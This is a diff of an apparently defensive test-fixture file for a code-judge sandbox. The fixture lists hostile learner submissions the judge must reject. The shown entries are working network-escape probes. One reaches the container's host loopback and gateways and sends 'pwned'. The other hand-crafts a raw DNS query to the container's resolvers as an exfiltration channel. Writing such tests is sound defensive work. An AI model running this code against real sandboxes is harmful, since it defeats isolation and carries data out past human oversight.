@@ -2,7 +2,9 @@
 
 Every entry is real attack code a learner could submit. `verdicts` is what the judge may
 answer; only entries whose code also computes 2x correctly may be AC. `__PORT__` in a
-source is replaced by the port of a server the test listens on in the host's loopback.
+source is replaced by the port of a server the test listens on in the host's loopback. No
+entry names a real host: the network ones reach for the host itself or a resolver the
+container is given, and any name they use is under .invalid (RFC 2606).
 The reference of the test problem carries MARKER, which must never reach a report.
 """
 
@@ -448,13 +450,22 @@ def f(x):
 """,
     ),
     # --- network ---------------------------------------------------------------------------
+    # The host as the container could see it: its loopback (host networking) and the default
+    # gateway of the container's routes (a bridge, or a user-mode network's host address).
     _h(
         "connect_to_host_loopback",
         "RE",
         """
-import socket
+import socket, struct
+def gateways():
+    try:
+        with open('/proc/net/route') as routes:
+            rows = [line.split() for line in routes][1:]
+    except OSError:
+        return []
+    return [socket.inet_ntoa(struct.pack('<L', int(r[2], 16))) for r in rows if len(r) > 2 and r[1] == '00000000']
 def f(x):
-    for host in ('127.0.0.1', '172.17.0.1', '10.0.2.2', 'host.docker.internal'):
+    for host in ['127.0.0.1', *gateways()]:
         try:
             with socket.create_connection((host, __PORT__), timeout=1) as s:
                 s.sendall(b'pwned')
@@ -464,14 +475,31 @@ def f(x):
     raise ConnectionError('no way out')
 """,
     ),
+    # A DNS query to each resolver the container is given, for a name under .invalid (RFC 2606):
+    # any answer, even "no such name", means a resolver is reachable, and DNS carries data out.
     _h(
-        "dns_lookup",
+        "dns_query",
         "RE",
         """
-import socket
+import socket, struct
 def f(x):
-    socket.getaddrinfo('deb.debian.org', 80)
-    return x * 2
+    try:
+        with open('/etc/resolv.conf') as conf:
+            servers = [w[1] for w in (line.split() for line in conf) if len(w) > 1 and w[0] == 'nameserver']
+    except OSError:
+        servers = []
+    name = b''.join(bytes([len(label)]) + label for label in (b'judge-exfil', b'invalid')) + bytes(1)
+    query = struct.pack('>HHHHHH', 0x4A44, 0x0100, 1, 0, 0, 0) + name + struct.pack('>HH', 1, 1)
+    for server in servers:
+        try:
+            with socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM) as s:
+                s.settimeout(1)
+                s.sendto(query, (server, 53))
+                if s.recv(512)[:2] == query[:2]:
+                    return x * 2
+        except OSError:
+            pass
+    raise ConnectionError('no resolver answered')
 """,
     ),
     _h(
